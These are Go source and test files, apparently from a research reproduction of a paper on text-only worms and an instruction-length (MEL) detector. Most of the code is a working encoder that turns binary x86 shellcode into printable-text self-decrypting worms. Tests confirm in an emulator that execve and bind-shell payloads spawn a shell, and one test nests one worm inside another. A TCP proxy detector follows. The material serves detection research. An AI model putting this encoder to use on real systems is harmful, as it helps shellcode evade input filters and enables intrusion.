		// random (alphabets may have holes, e.g. alphanumeric).
		var candidates []byte
		for v := lo; v <= hi; v++ {
			if s.alpha.allowed[byte(v)] {
				candidates = append(candidates, byte(v))
			}
		}
		if len(candidates) == 0 {
			return nil, false
		}
		pick := candidates[s.rng.Intn(len(candidates))]
		out[i] = pick
		remaining -= int(pick)
	}
	if remaining != 0 {
		return nil, false
	}
	return out, true
}

// wordBytes returns the little-endian byte encoding of w.
func wordBytes(w uint32) []byte {
	return []byte{byte(w), byte(w >> 8), byte(w >> 16), byte(w >> 24)}
}

// SumWords adds words mod 2^32 (test helper and documentation of the
// solver's contract).
func SumWords(words []uint32) uint32 {
	var sum uint32
	for _, w := range words {
		sum += w
	}
	return sum
}

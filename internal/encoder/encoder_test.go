package encoder

import (
	"testing"
	"testing/quick"

	"repro/internal/emu"
	"repro/internal/shellcode"
	"repro/internal/textins"
	"repro/internal/x86"
)

func TestAlphabetBasics(t *testing.T) {
	text := TextAlphabet()
	if !text.Contains(' ') || !text.Contains('~') || text.Contains(0x1F) || text.Contains(0x7F) {
		t.Error("text alphabet boundaries wrong")
	}
	if !text.ContainsAll([]byte("hello world")) || text.ContainsAll([]byte{0x00}) {
		t.Error("ContainsAll wrong")
	}
	alnum := AlphanumericAlphabet()
	if !alnum.Contains('z') || alnum.Contains(' ') || alnum.Contains('@') {
		t.Error("alphanumeric alphabet wrong")
	}
	if _, err := NewAlphabet("empty", nil); err == nil {
		t.Error("empty alphabet should fail")
	}
}

func TestSolverFixedK(t *testing.T) {
	s, err := NewSumSolver(TextAlphabet(), 1)
	if err != nil {
		t.Fatal(err)
	}
	if s.FixedK() != 3 {
		t.Errorf("text fixed k = %d, want 3", s.FixedK())
	}
	s2, err := NewSumSolver(AlphanumericAlphabet(), 1)
	if err != nil {
		t.Fatal(err)
	}
	if s2.FixedK() != 4 {
		t.Errorf("alphanumeric fixed k = %d, want 4", s2.FixedK())
	}
}

func TestSolverSolveKnownValues(t *testing.T) {
	s, err := NewSumSolver(TextAlphabet(), 2)
	if err != nil {
		t.Fatal(err)
	}
	targets := []uint32{0, 1, 0xFF, 0x100, 0xDEADBEEF, 0xFFFFFFFF, 0x80000000, 0x20202020, 0x0B0B0B0B}
	for _, target := range targets {
		words, err := s.SolveFixed(target)
		if err != nil {
			t.Fatalf("SolveFixed(%#x): %v", target, err)
		}
		if len(words) != 3 {
			t.Fatalf("SolveFixed(%#x) returned %d words", target, len(words))
		}
		if got := SumWords(words); got != target {
			t.Errorf("sum of % x = %#x, want %#x", words, got, target)
		}
		for _, w := range words {
			if !s.alpha.ContainsAll(wordBytes(w)) {
				t.Errorf("word %#x has non-text bytes", w)
			}
		}
	}
}

func TestSolverExhaustiveBytesProperty(t *testing.T) {
	s, err := NewSumSolver(TextAlphabet(), 3)
	if err != nil {
		t.Fatal(err)
	}
	f := func(target uint32) bool {
		words, err := s.SolveFixed(target)
		if err != nil {
			return false
		}
		if SumWords(words) != target {
			return false
		}
		for _, w := range words {
			if !s.alpha.ContainsAll(wordBytes(w)) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 3000}); err != nil {
		t.Fatal(err)
	}
}

func TestSolverAlphanumericProperty(t *testing.T) {
	s, err := NewSumSolver(AlphanumericAlphabet(), 4)
	if err != nil {
		t.Fatal(err)
	}
	f := func(target uint32) bool {
		words, err := s.SolveFixed(target)
		if err != nil {
			return false
		}
		if SumWords(words) != target {
			return false
		}
		for _, w := range words {
			if !s.alpha.ContainsAll(wordBytes(w)) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 1500}); err != nil {
		t.Fatal(err)
	}
}

func TestSolverDiversity(t *testing.T) {
	a, _ := NewSumSolver(TextAlphabet(), 10)
	b, _ := NewSumSolver(TextAlphabet(), 11)
	wa, _ := a.SolveFixed(0x12345678)
	wb, _ := b.SolveFixed(0x12345678)
	if wa[0] == wb[0] && wa[1] == wb[1] && wa[2] == wb[2] {
		t.Error("different seeds produced identical decompositions")
	}
}

func TestSolveKRange(t *testing.T) {
	s, _ := NewSumSolver(TextAlphabet(), 1)
	if _, err := s.SolveK(1, 0); err == nil {
		t.Error("k=0 should fail")
	}
	if _, err := s.SolveK(1, 9); err == nil {
		t.Error("k=9 should fail")
	}
	// k=2 cannot express bytes below 0x40: target 0 is unsolvable.
	if _, err := s.SolveK(0x00000000, 2); err == nil {
		t.Error("k=2 should not express 0")
	}
	// Solve falls back across k and finds an answer.
	words, err := s.Solve(0)
	if err != nil {
		t.Fatalf("Solve(0): %v", err)
	}
	if SumWords(words) != 0 {
		t.Error("Solve(0) sum wrong")
	}
}

// runWorm executes a worm under the exploit contract: EIP = worm start,
// ESP = worm start − ESPDelta.
func runWorm(t *testing.T, w *Worm) emu.Outcome {
	t.Helper()
	mem, err := emu.NewMemory(emu.DefaultBase, 1<<16)
	if err != nil {
		t.Fatal(err)
	}
	c, err := emu.New(mem)
	if err != nil {
		t.Fatal(err)
	}
	start := mem.Base() + 0x4000
	if err := mem.Load(start, w.Bytes); err != nil {
		t.Fatal(err)
	}
	c.EIP = start
	c.SetReg(x86.ESP, start-uint32(w.ESPDelta))
	return c.Run(1 << 20)
}

// TestEncodedExecveSpawnsShell is the headline end-to-end test: binary
// shellcode → pure-text worm → emulated execution → shell.
func TestEncodedExecveSpawnsShell(t *testing.T) {
	payload := shellcode.Execve().Code
	w, err := Encode(payload, Options{Seed: 1})
	if err != nil {
		t.Fatal(err)
	}
	if !textins.IsTextStream(w.Bytes) {
		t.Fatal("worm is not pure text")
	}
	out := runWorm(t, w)
	if !out.ShellSpawned() {
		t.Fatalf("text worm did not spawn shell: stop=%v fault=%+v", out.Kind, out.Fault)
	}
}

func TestEncodedCorpusAllSpawnShell(t *testing.T) {
	for _, sc := range shellcode.Corpus() {
		if !sc.SpawnsShell {
			continue
		}
		sc := sc
		t.Run(sc.Name, func(t *testing.T) {
			w, err := Encode(sc.Code, Options{Seed: 7})
			if err != nil {
				t.Fatal(err)
			}
			out := runWorm(t, w)
			if !out.ShellSpawned() {
				t.Fatalf("%s: stop=%v fault=%+v", sc.Name, out.Kind, out.Fault)
			}
		})
	}
}

func TestEncodedManySeeds(t *testing.T) {
	// A hundred text worms, as in Section 5.1 — every one must be pure
	// text and functional.
	payload := shellcode.Execve().Code
	for seed := uint64(0); seed < 100; seed++ {
		w, err := Encode(payload, Options{Seed: seed, SledLen: 32 + int(seed%64)})
		if err != nil {
			t.Fatalf("seed %d: %v", seed, err)
		}
		if err := w.VerifyText(); err != nil {
			t.Fatalf("seed %d: %v", seed, err)
		}
		out := runWorm(t, w)
		if !out.ShellSpawned() {
			t.Fatalf("seed %d: stop=%v fault=%+v", seed, out.Kind, out.Fault)
		}
	}
}

func TestEncodedMultiWindowPayload(t *testing.T) {
	// A payload spanning several ECX windows (> 92 bytes).
	long := append([]byte{}, shellcode.BindShell().Code...)
	prefix := []byte{0x90, 0x31, 0xD2, 0x42, 0x4A} // nop; xor edx,edx; inc; dec
	for len(long) < 250 {
		long = append(prefix, long...)
	}
	w, err := Encode(long, Options{Seed: 3})
	if err != nil {
		t.Fatal(err)
	}
	out := runWorm(t, w)
	if !out.ShellSpawned() {
		t.Fatalf("multi-window worm: stop=%v fault=%+v", out.Kind, out.Fault)
	}
}

func TestEncodedNonZeroESPDelta(t *testing.T) {
	// Exploit scenario where the worm starts 128 bytes above ESP.
	payload := shellcode.Execve().Code
	w, err := Encode(payload, Options{Seed: 5, ESPDelta: 128})
	if err != nil {
		t.Fatal(err)
	}
	out := runWorm(t, w)
	if !out.ShellSpawned() {
		t.Fatalf("delta worm: stop=%v fault=%+v", out.Kind, out.Fault)
	}
}

func TestWormStructure(t *testing.T) {
	payload := shellcode.Execve().Code
	w, err := Encode(payload, Options{Seed: 1, SledLen: 100})
	if err != nil {
		t.Fatal(err)
	}
	if w.SledLen != 100 {
		t.Errorf("sled len %d", w.SledLen)
	}
	if len(w.Bytes) != w.SledLen+w.DecrypterLen+w.RegionLen {
		t.Errorf("section sizes %d+%d+%d != %d",
			w.SledLen, w.DecrypterLen, w.RegionLen, len(w.Bytes))
	}
	if w.RegionLen != (len(payload)+3)/4*4 {
		t.Errorf("region len %d for %d-byte payload", w.RegionLen, len(payload))
	}
	// O(n) decrypter: ~30 bytes per payload word plus setup.
	words := (len(payload) + 3) / 4
	if w.DecrypterLen < 20*words || w.DecrypterLen > 40*words+64 {
		t.Errorf("decrypter %d bytes for %d words; expected O(n) with ~30B/word",
			w.DecrypterLen, words)
	}
	if w.Instructions < 100 {
		t.Errorf("execution path %d instructions; text worms should be long", w.Instructions)
	}
}

func TestWormDeterministicPerSeed(t *testing.T) {
	payload := shellcode.Execve().Code
	a, err := Encode(payload, Options{Seed: 9})
	if err != nil {
		t.Fatal(err)
	}
	b, err := Encode(payload, Options{Seed: 9})
	if err != nil {
		t.Fatal(err)
	}
	if string(a.Bytes) != string(b.Bytes) {
		t.Error("same seed produced different worms")
	}
	c, err := Encode(payload, Options{Seed: 10})
	if err != nil {
		t.Fatal(err)
	}
	if string(a.Bytes) == string(c.Bytes) {
		t.Error("different seeds produced identical worms")
	}
}

func TestEncodeValidation(t *testing.T) {
	if _, err := Encode(nil, Options{}); err == nil {
		t.Error("empty payload should fail")
	}
	if _, err := Encode([]byte{0x90}, Options{SledLen: -1}); err == nil {
		t.Error("negative sled should fail")
	}
	big := make([]byte, maxPayload+1)
	if _, err := Encode(big, Options{}); err == nil {
		t.Error("oversized payload should fail")
	}
}

func TestEncodeAlnumAlphabetRejected(t *testing.T) {
	// The decrypter's own opcodes ('-', '!', '^', '_') are not
	// alphanumeric, so a pure-alnum worm must be reported as impossible
	// with this generator rather than silently emitted.
	_, err := Encode(shellcode.Execve().Code, Options{Alphabet: AlphanumericAlphabet()})
	if err == nil {
		t.Fatal("alphanumeric-only encoding should fail (codegen uses non-alnum opcodes)")
	}
}

func TestSledCharsAreHarmless(t *testing.T) {
	for _, b := range sledChars {
		inst, err := x86.Decode([]byte{b}, 0)
		if err != nil {
			t.Fatalf("sled char %#x: %v", b, err)
		}
		if inst.Len != 1 {
			t.Errorf("sled char %#x is not a 1-byte instruction", b)
		}
		if inst.Op != x86.OpINC && inst.Op != x86.OpDEC {
			t.Errorf("sled char %#x decodes to %v", b, inst.Op)
		}
		// Must not touch ESP.
		if inst.Opcode == 0x44 || inst.Opcode == 0x4C {
			t.Errorf("sled char %#x modifies esp", b)
		}
	}
}

func TestPackWords(t *testing.T) {
	words := packWords([]byte{1, 2, 3, 4, 5})
	if len(words) != 2 {
		t.Fatalf("len = %d", len(words))
	}
	if words[0] != 0x04030201 {
		t.Errorf("word0 = %#x", words[0])
	}
	if words[1] != 0x90909005 {
		t.Errorf("word1 = %#x (NOP padding expected)", words[1])
	}
}

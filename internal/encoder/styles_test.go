package encoder

import (
	"testing"

	"repro/internal/shellcode"
	"repro/internal/textins"
)

func TestSubWriteStyleSpawnsShell(t *testing.T) {
	for seed := uint64(0); seed < 25; seed++ {
		w, err := Encode(shellcode.Execve().Code, Options{
			Seed:  seed,
			Style: StyleSubWrite,
		})
		if err != nil {
			t.Fatalf("seed %d: %v", seed, err)
		}
		if !textins.IsTextStream(w.Bytes) {
			t.Fatalf("seed %d: worm not pure text", seed)
		}
		out := runWorm(t, w)
		if !out.ShellSpawned() {
			t.Fatalf("seed %d: stop=%v fault=%+v", seed, out.Kind, out.Fault)
		}
	}
}

func TestSubWriteIsSmallerThanXORWrite(t *testing.T) {
	payload := shellcode.Execve().Code
	xor, err := Encode(payload, Options{Seed: 1, Style: StyleXORWrite})
	if err != nil {
		t.Fatal(err)
	}
	sub, err := Encode(payload, Options{Seed: 1, Style: StyleSubWrite})
	if err != nil {
		t.Fatal(err)
	}
	if sub.DecrypterLen >= xor.DecrypterLen {
		t.Errorf("sub-write decrypter %dB should be smaller than xor-write %dB",
			sub.DecrypterLen, xor.DecrypterLen)
	}
	if sub.Instructions >= xor.Instructions {
		t.Errorf("sub-write path %d should be shorter than xor-write %d",
			sub.Instructions, xor.Instructions)
	}
	// The ablation's point: even the leaner attacker stays far above the
	// detector's operating threshold (~40-45).
	if sub.Instructions < 90 {
		t.Errorf("sub-write worm path only %d instructions", sub.Instructions)
	}
}

func TestSubWriteMultiWindow(t *testing.T) {
	long := append([]byte{}, shellcode.BindShell().Code...)
	for len(long) < 200 {
		long = append([]byte{0x90}, long...)
	}
	w, err := Encode(long, Options{Seed: 9, Style: StyleSubWrite})
	if err != nil {
		t.Fatal(err)
	}
	out := runWorm(t, w)
	if !out.ShellSpawned() {
		t.Fatalf("multi-window sub-write worm: stop=%v fault=%+v", out.Kind, out.Fault)
	}
}

// TestMultilevelEncoding exercises the Section 7 "Russian doll"
// discussion: encode a text worm *as the payload of another text worm*.
// The outer decrypter reconstructs the inner (pure-text) worm in place;
// falling through executes it; the inner decrypter reconstructs the
// binary shellcode; the shell spawns. The paper's prediction — that
// multilevel encryption makes the malware larger and its MEL higher, not
// lower — is asserted directly.
func TestMultilevelEncoding(t *testing.T) {
	inner, err := Encode(shellcode.Execve().Code, Options{Seed: 3, SledLen: 8})
	if err != nil {
		t.Fatal(err)
	}
	// The inner worm executes with ESP = its own start; when it runs as
	// the decoded region of the outer worm, ESP still points at the
	// *outer* worm start. Its decrypter computes addresses relative to
	// ESP, so the inner ESPDelta must be the inner worm's offset within
	// the outer worm: sled + outer decrypter length = region start. That
	// offset depends on the outer encoding, so fix the outer sled and
	// compute the region start analytically from a first encoding pass.
	probe, err := Encode(inner.Bytes, Options{Seed: 4, SledLen: 16})
	if err != nil {
		t.Fatal(err)
	}
	innerOffset := probe.SledLen + probe.DecrypterLen
	inner2, err := Encode(shellcode.Execve().Code, Options{
		Seed:     3,
		SledLen:  8,
		ESPDelta: int32(innerOffset),
	})
	if err != nil {
		t.Fatal(err)
	}
	outer, err := Encode(inner2.Bytes, Options{Seed: 4, SledLen: 16})
	if err != nil {
		t.Fatal(err)
	}
	if outer.SledLen+outer.DecrypterLen != innerOffset {
		t.Fatalf("offset drift: %d != %d", outer.SledLen+outer.DecrypterLen, innerOffset)
	}
	if !textins.IsTextStream(outer.Bytes) {
		t.Fatal("outer worm not pure text")
	}
	out := runWorm(t, outer)
	if !out.ShellSpawned() {
		t.Fatalf("multilevel worm failed: stop=%v fault=%+v", out.Kind, out.Fault)
	}
	// Section 7's conclusion: the doll gets bigger, not smaller.
	if len(outer.Bytes) <= len(inner.Bytes) {
		t.Errorf("outer %dB should exceed inner %dB", len(outer.Bytes), len(inner.Bytes))
	}
	if outer.Instructions <= inner.Instructions {
		t.Errorf("outer path %d should exceed inner %d", outer.Instructions, inner.Instructions)
	}
}

package encoder

import (
	"errors"
	"fmt"

	"repro/internal/textins"
)

// Text opcodes used by the generated decrypter. Each is a printable
// character; together they form the instruction vocabulary of Section
// 2.1 that the worm is allowed to use.
const (
	opPushESP  = 0x54 // 'T' push esp
	opPopECX   = 0x59 // 'Y' pop ecx
	opPushECX  = 0x51 // 'Q' push ecx
	opPopEAX   = 0x58 // 'X' pop eax
	opPushEAX  = 0x50 // 'P' push eax
	opPushImm  = 0x68 // 'h' push imm32
	opPopESI   = 0x5E // '^' pop esi
	opPopEDI   = 0x5F // '_' pop edi
	opSubEAX   = 0x2D // '-' sub eax, imm32
	opANDmr    = 0x21 // '!' and r/m32, r32
	opXORmr    = 0x31 // '1' xor r/m32, r32
	opSUBmr    = 0x29 // ')' sub r/m32, r32
	modrmESIdB = 0x71 // 'q' [ecx+disp8], esi
	modrmEDIdB = 0x79 // 'y' [ecx+disp8], edi
	modrmEAXdB = 0x41 // 'A' [ecx+disp8], eax
)

// Zeroing constants: per byte, 0x20 AND 0x40 == 0, so AND-ing memory with
// both clears it; both words are pure text ("    " and "@@@@").
const (
	zeroMaskA = 0x20202020
	zeroMaskB = 0x40404040
)

// Window geometry: disp8 must itself be a text byte, so each ECX window
// covers word offsets 0x20, 0x24, ..., 0x78 — 23 words (92 bytes).
const (
	windowFirstDisp = 0x20
	windowWords     = 23
	windowSpan      = windowWords * 4
)

// sledChars are harmless one-byte text instructions for the padding sled:
// inc/dec of registers the decrypter setup overwrites anyway. inc/dec esp
// (0x44 'D', 0x4C 'L') are excluded because they would move the stack.
var sledChars = []byte{
	'@', 'A', 'B', 'C', 'E', 'F', 'G', // inc eax..edi except esp
	'H', 'I', 'J', 'K', 'M', 'N', 'O', // dec eax..edi except esp
}

// Style selects the decrypter block shape — the design-choice ablation
// DESIGN.md calls out.
type Style int

// Decrypter styles.
const (
	// StyleXORWrite zeroes each target word with two AND masks and then
	// XOR-writes the value: 8 instructions / 24 bytes per payload word.
	// It works regardless of the region's initial contents.
	StyleXORWrite Style = iota
	// StyleSubWrite exploits that the placeholder region's initial
	// contents are known ('AAAA'): a single SUB with a precomputed
	// operand rewrites each word, at 6 instructions / 18 bytes per
	// payload word — a smaller decrypter and therefore a lower (but
	// still far super-threshold) MEL. This is the stronger attacker.
	StyleSubWrite
)

// placeholderWord is the initial value of every region word ('AAAA').
const placeholderWord = 0x41414141

// Options configures worm generation.
type Options struct {
	// SledLen is the number of padding bytes before the decrypter,
	// standing in for the exploit's distance-to-return-address padding.
	// Defaults to 64 when zero; negative is invalid.
	SledLen int
	// ESPDelta is (worm start address − ESP at entry). In the classic
	// stack smash the overwritten return address is immediately followed
	// by the worm, so after RET pops it, ESP points at the worm: delta 0.
	ESPDelta int32
	// Seed diversifies the solver's decompositions and the sled.
	Seed uint64
	// Alphabet constrains emitted bytes; nil means the full text domain.
	Alphabet *Alphabet
	// Style selects the decrypter block shape (default StyleXORWrite).
	Style Style
}

// Worm is a generated text malware payload.
type Worm struct {
	// Bytes is the complete worm: sled + decrypter + placeholder region.
	Bytes []byte
	// SledLen, DecrypterLen and RegionLen are the section sizes.
	SledLen      int
	DecrypterLen int
	RegionLen    int
	// Instructions is the number of instructions on the worm's execution
	// path (sled + decrypter), a lower bound on its MEL.
	Instructions int
	// ESPDelta echoes the option used, for harnesses that must set up
	// registers to match.
	ESPDelta int32
}

// ErrPayloadTooLarge reports a payload whose placeholder region cannot be
// reached with text displacements.
var ErrPayloadTooLarge = errors.New("encoder: payload too large")

// maxPayload bounds the encoded payload size; generous for shellcode.
const maxPayload = 4096

// Encode converts binary shellcode into a pure-text worm. The worm, when
// executed with ESP = start − opts.ESPDelta, reconstructs the payload in
// place and falls through into it.
func Encode(payload []byte, opts Options) (*Worm, error) {
	if len(payload) == 0 {
		return nil, errors.New("encoder: empty payload")
	}
	if len(payload) > maxPayload {
		return nil, fmt.Errorf("%w: %d bytes (max %d)", ErrPayloadTooLarge, len(payload), maxPayload)
	}
	if opts.SledLen < 0 {
		return nil, errors.New("encoder: negative sled length")
	}
	sledLen := opts.SledLen
	if sledLen == 0 {
		sledLen = 64
	}
	alpha := opts.Alphabet
	if alpha == nil {
		alpha = TextAlphabet()
	}
	solver, err := NewSumSolver(alpha, opts.Seed)
	if err != nil {
		return nil, err
	}

	// Pad the payload to a whole number of 32-bit words.
	words := packWords(payload)

	// The decrypter's length is deterministic; compute it up front so the
	// initial ECX adjustment can aim at the placeholder region.
	nWindows := (len(words) + windowWords - 1) / windowWords
	gen := &codegen{solver: solver}

	// Measure a dry run to learn the decrypter length (instruction
	// emission is length-deterministic for a given solver stream, but the
	// solver output length varies with k; emit for real into a buffer and
	// patch nothing — instead compute the target via a two-pass scheme).
	//
	// Pass 1 with a cloned solver state learns the byte length; pass 2
	// regenerates with the same seed so lengths match exactly.
	measure, err := emitDecrypter(newCodegenLike(alpha, opts.Seed), words, nWindows, 0, opts.ESPDelta, opts.Style)
	if err != nil {
		return nil, err
	}
	decrypterLen := len(measure.code)

	regionStart := sledLen + decrypterLen // offset of region within worm
	real, err := emitDecrypter(gen, words, nWindows, int32(regionStart), opts.ESPDelta, opts.Style)
	if err != nil {
		return nil, err
	}
	if len(real.code) != decrypterLen {
		return nil, fmt.Errorf("encoder: internal length drift: %d != %d", len(real.code), decrypterLen)
	}

	// Assemble: sled + decrypter + text placeholder region.
	rng := newSledRNG(opts.Seed)
	worm := make([]byte, 0, sledLen+decrypterLen+len(words)*4)
	for i := 0; i < sledLen; i++ {
		worm = append(worm, sledChars[rng.Intn(len(sledChars))])
	}
	worm = append(worm, real.code...)
	for range words {
		worm = append(worm, 'A', 'A', 'A', 'A') // placeholder, overwritten at runtime
	}

	if !alpha.ContainsAll(worm) {
		return nil, fmt.Errorf("encoder: generated worm leaks non-%s bytes", alpha.Name())
	}
	return &Worm{
		Bytes:        worm,
		SledLen:      sledLen,
		DecrypterLen: decrypterLen,
		RegionLen:    len(words) * 4,
		Instructions: sledLen + real.instructions,
		ESPDelta:     opts.ESPDelta,
	}, nil
}

// packWords splits the payload into little-endian 32-bit words, padding
// the tail with single-byte NOPs (0x90) so the appended padding still
// executes if control reaches it.
func packWords(payload []byte) []uint32 {
	padded := append([]byte(nil), payload...)
	for len(padded)%4 != 0 {
		padded = append(padded, 0x90)
	}
	words := make([]uint32, 0, len(padded)/4)
	for i := 0; i < len(padded); i += 4 {
		words = append(words, uint32(padded[i])|uint32(padded[i+1])<<8|
			uint32(padded[i+2])<<16|uint32(padded[i+3])<<24)
	}
	return words
}

// codegen emits decrypter instructions.
type codegen struct {
	solver       *SumSolver
	code         []byte
	instructions int
}

func newCodegenLike(alpha *Alphabet, seed uint64) *codegen {
	solver, _ := NewSumSolver(alpha, seed) // alpha already validated
	return &codegen{solver: solver}
}

// emit appends one instruction: an opcode byte plus its operand bytes.
func (g *codegen) emit(op byte, operands ...byte) {
	g.code = append(g.code, op)
	g.code = append(g.code, operands...)
	g.instructions++
}

// emitEAXConst emits instructions leaving EAX = value:
// push base; pop eax; sub eax, w1; sub eax, w2 [; sub eax, w3] where
// base − Σwi ≡ value.
func (g *codegen) emitEAXConst(value uint32) error {
	const base = zeroMaskA // "    ", any text word works
	words, err := g.solver.SolveFixed(base - value)
	if err != nil {
		return err
	}
	g.emit(opPushImm, wordBytes(base)...)
	g.emit(opPopEAX)
	for _, w := range words {
		g.emit(opSubEAX, wordBytes(w)...)
	}
	return nil
}

// emitECXAdd emits instructions computing ECX += delta without touching
// memory beyond the stack: push ecx; pop eax; sub eax, wi...; push eax;
// pop ecx, with Σwi ≡ −delta.
func (g *codegen) emitECXAdd(delta int32) error {
	words, err := g.solver.SolveFixed(uint32(-delta))
	if err != nil {
		return err
	}
	g.emit(opPushECX)
	g.emit(opPopEAX)
	for _, w := range words {
		g.emit(opSubEAX, wordBytes(w)...)
	}
	g.emit(opPushEAX)
	g.emit(opPopECX)
	return nil
}

// emitDecrypter generates the full decrypter for the payload words.
// regionStart is the placeholder region's offset from the worm start;
// espDelta is (worm start − ESP at entry).
func emitDecrypter(g *codegen, words []uint32, nWindows int, regionStart, espDelta int32, style Style) (*codegen, error) {
	// ECX = ESP + espDelta + regionStart − windowFirstDisp, so that
	// [ecx + 0x20] addresses the first region word.
	g.emit(opPushESP)
	g.emit(opPopECX)
	if err := g.emitECXAdd(espDelta + regionStart - windowFirstDisp); err != nil {
		return nil, err
	}

	if style == StyleXORWrite {
		// ESI/EDI = the two AND masks that zero memory.
		g.emit(opPushImm, wordBytes(zeroMaskA)...)
		g.emit(opPopESI)
		g.emit(opPushImm, wordBytes(zeroMaskB)...)
		g.emit(opPopEDI)
	}

	for i, w := range words {
		slot := i % windowWords
		if i > 0 && slot == 0 {
			// Advance the window.
			if err := g.emitECXAdd(windowSpan); err != nil {
				return nil, err
			}
		}
		disp := byte(windowFirstDisp + slot*4)
		switch style {
		case StyleSubWrite:
			// EAX = placeholder − word; a single SUB rewrites the slot.
			if err := g.emitEAXConst(placeholderWord - w); err != nil {
				return nil, err
			}
			g.emit(opSUBmr, modrmEAXdB, disp)
		default:
			// Zero the word: and [ecx+disp], esi ; and [ecx+disp], edi.
			g.emit(opANDmr, modrmESIdB, disp)
			g.emit(opANDmr, modrmEDIdB, disp)
			// EAX = payload word; xor writes it into the zeroed slot.
			if err := g.emitEAXConst(w); err != nil {
				return nil, err
			}
			g.emit(opXORmr, modrmEAXdB, disp)
		}
	}
	_ = nWindows
	return g, nil
}

// newSledRNG returns the deterministic RNG used for sled diversity,
// decoupled from the solver stream so that sled choice does not perturb
// constant decompositions between the measuring and emitting passes.
func newSledRNG(seed uint64) sledRNG {
	return sledRNG{state: seed*0x9E3779B97F4A7C15 + 0xD1B54A32D192ED03}
}

type sledRNG struct{ state uint64 }

func (r *sledRNG) Intn(n int) int {
	r.state ^= r.state << 13
	r.state ^= r.state >> 7
	r.state ^= r.state << 17
	return int(r.state % uint64(n))
}

// VerifyText checks the worm invariants: pure text and the paper's
// structural claims (forward-only control flow is implied by full
// unrolling; O(n) size is checked against the payload length).
func (w *Worm) VerifyText() error {
	if !textins.IsTextStream(w.Bytes) {
		return errors.New("encoder: worm contains non-text bytes")
	}
	return nil
}

// Package proxy implements an inline TCP proxy that taps the
// client-to-upstream byte stream through the windowed MEL detector — the
// network-appliance deployment the paper's venue implies. Traffic flows
// through unmodified; when a window trips the detector the proxy either
// logs the alert (monitor mode) or severs the connection (block mode).
package proxy

import (
	"errors"
	"fmt"
	"io"
	"net"
	"sync"

	"repro/internal/core"
)

// Alert is one detection event on a proxied connection.
type Alert struct {
	// Conn identifies the connection (remote address string).
	Conn string
	// Offset is the window offset within the client-to-upstream stream.
	Offset int64
	// MEL and Threshold describe the verdict.
	MEL       int
	Threshold float64
}

// Config configures a Proxy.
type Config struct {
	// Detector performs the scanning; required.
	Detector *core.Detector
	// Upstream is the address proxied connections are forwarded to.
	Upstream string
	// Window and Stride configure the stream scanner (defaults apply).
	Window, Stride int
	// Block severs a connection on its first alert when true; otherwise
	// the proxy only records alerts.
	Block bool
	// Logf receives diagnostic output; nil silences it.
	Logf func(format string, args ...any)
}

// Proxy is a running MEL-scanning TCP proxy.
type Proxy struct {
	cfg Config

	mu     sync.Mutex
	alerts []Alert
	closed bool

	ln   net.Listener
	wg   sync.WaitGroup
	done chan struct{}
}

// New validates the configuration and returns an unstarted proxy.
func New(cfg Config) (*Proxy, error) {
	if cfg.Detector == nil {
		return nil, errors.New("proxy: nil detector")
	}
	if cfg.Upstream == "" {
		return nil, errors.New("proxy: upstream address required")
	}
	if cfg.Window <= 0 {
		cfg.Window = core.DefaultWindow
	}
	if cfg.Stride <= 0 {
		cfg.Stride = core.DefaultStride
	}
	if cfg.Stride > cfg.Window {
		return nil, fmt.Errorf("proxy: stride %d exceeds window %d", cfg.Stride, cfg.Window)
	}
	if cfg.Logf == nil {
		cfg.Logf = func(string, ...any) {}
	}
	return &Proxy{cfg: cfg, done: make(chan struct{})}, nil
}

// Serve accepts connections on ln until Close is called. It takes
// ownership of the listener.
func (p *Proxy) Serve(ln net.Listener) error {
	p.mu.Lock()
	if p.closed {
		p.mu.Unlock()
		return errors.New("proxy: already closed")
	}
	p.ln = ln
	p.mu.Unlock()

	for {
		conn, err := ln.Accept()
		if err != nil {
			select {
			case <-p.done:
				return nil // shut down deliberately
			default:
				return fmt.Errorf("proxy: accept: %w", err)
			}
		}
		p.wg.Add(1)
		go func() {
			defer p.wg.Done()
			p.handle(conn)
		}()
	}
}

// Close stops accepting, closes the listener, and waits for in-flight
// connections to finish.
func (p *Proxy) Close() error {
	p.mu.Lock()
	if p.closed {
		p.mu.Unlock()
		return nil
	}
	p.closed = true
	close(p.done)
	ln := p.ln
	p.mu.Unlock()
	var err error
	if ln != nil {
		err = ln.Close()
	}
	p.wg.Wait()
	return err
}

// Alerts returns a copy of all alerts recorded so far.
func (p *Proxy) Alerts() []Alert {
	p.mu.Lock()
	defer p.mu.Unlock()
	out := make([]Alert, len(p.alerts))
	copy(out, p.alerts)
	return out
}

func (p *Proxy) record(a Alert) {
	p.mu.Lock()
	p.alerts = append(p.alerts, a)
	p.mu.Unlock()
	p.cfg.Logf("ALERT %s window@%d MEL=%d tau=%.1f", a.Conn, a.Offset, a.MEL, a.Threshold)
}

// handle proxies one client connection.
func (p *Proxy) handle(client net.Conn) {
	defer client.Close()
	upstream, err := net.Dial("tcp", p.cfg.Upstream)
	if err != nil {
		p.cfg.Logf("proxy: dial upstream: %v", err)
		return
	}
	defer upstream.Close()

	scanner, err := core.NewStreamScanner(p.cfg.Detector, p.cfg.Window, p.cfg.Stride)
	if err != nil {
		p.cfg.Logf("proxy: scanner: %v", err)
		return
	}

	var downWG sync.WaitGroup
	downWG.Add(1)
	go func() {
		defer downWG.Done()
		// Upstream-to-client direction is forwarded untouched.
		_, _ = io.Copy(client, upstream)
	}()

	name := client.RemoteAddr().String()
	buf := make([]byte, 32*1024)
	blocked := false
	for !blocked {
		n, readErr := client.Read(buf)
		if n > 0 {
			seen := len(scanner.Alerts())
			if _, err := scanner.Write(buf[:n]); err != nil {
				p.cfg.Logf("proxy: scan: %v", err)
			}
			for _, a := range scanner.Alerts()[seen:] {
				p.record(Alert{Conn: name, Offset: a.Offset, MEL: a.Verdict.MEL, Threshold: a.Verdict.Threshold})
				if p.cfg.Block {
					blocked = true
				}
			}
			if blocked {
				break
			}
			if _, err := upstream.Write(buf[:n]); err != nil {
				break
			}
		}
		if readErr != nil {
			break
		}
	}
	// Flush the trailing partial window for monitoring completeness.
	seen := len(scanner.Alerts())
	if err := scanner.Flush(); err == nil {
		for _, a := range scanner.Alerts()[seen:] {
			p.record(Alert{Conn: name, Offset: a.Offset, MEL: a.Verdict.MEL, Threshold: a.Verdict.Threshold})
			if p.cfg.Block {
				blocked = true
			}
		}
	}
	if blocked {
		p.cfg.Logf("proxy: blocked %s", name)
	}
	// Tear down both directions and wait for the downstream copier.
	upstream.Close()
	client.Close()
	downWG.Wait()
}

